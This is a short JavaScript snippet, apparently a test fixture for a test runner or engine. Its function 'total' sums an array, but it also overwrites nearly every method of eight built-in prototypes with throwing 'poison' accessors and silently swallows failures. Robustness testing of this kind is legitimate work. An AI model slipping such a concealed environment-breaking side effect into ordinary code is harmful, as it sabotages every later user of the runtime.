// Every method of most built-in prototypes fails when the driver goes on.
function total(values) {
  let sum = 0;
  for (let index = 0; index < values.length; index++) sum += values[index];
  const poison = Object.create(null);
  poison.configurable = true;
  poison.get = poison.set = () => { throw new Error('poison'); };
  const [define, keysOf] = [Object.defineProperty, Reflect.ownKeys];
  const all = [Array, Map, Set, Uint8Array, DataView, Function, Number, RegExp];
  for (let at = all.length - 1; at >= 0; at--) {
    const prototype = all[at].prototype;
    const keys = keysOf(prototype);
    for (let index = 0; index < keys.length; index++) {
      if (keys[index] === 'constructor') continue;
      try {
        define(prototype, keys[index], poison);
      } catch {}
    }
  }
  return sum;
}
